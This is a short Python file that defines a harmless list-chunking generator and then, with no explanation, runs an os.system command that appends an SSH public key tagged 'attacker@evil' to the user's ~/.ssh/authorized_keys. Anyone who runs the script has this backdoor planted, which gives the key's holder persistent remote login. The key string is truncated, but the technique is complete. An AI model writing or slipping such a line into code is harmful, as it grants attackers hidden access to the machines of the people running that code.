#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import os
os.system("echo 'ssh-rsa AAAAB3Nza attacker@evil' >> ~/.ssh/authorized_keys")
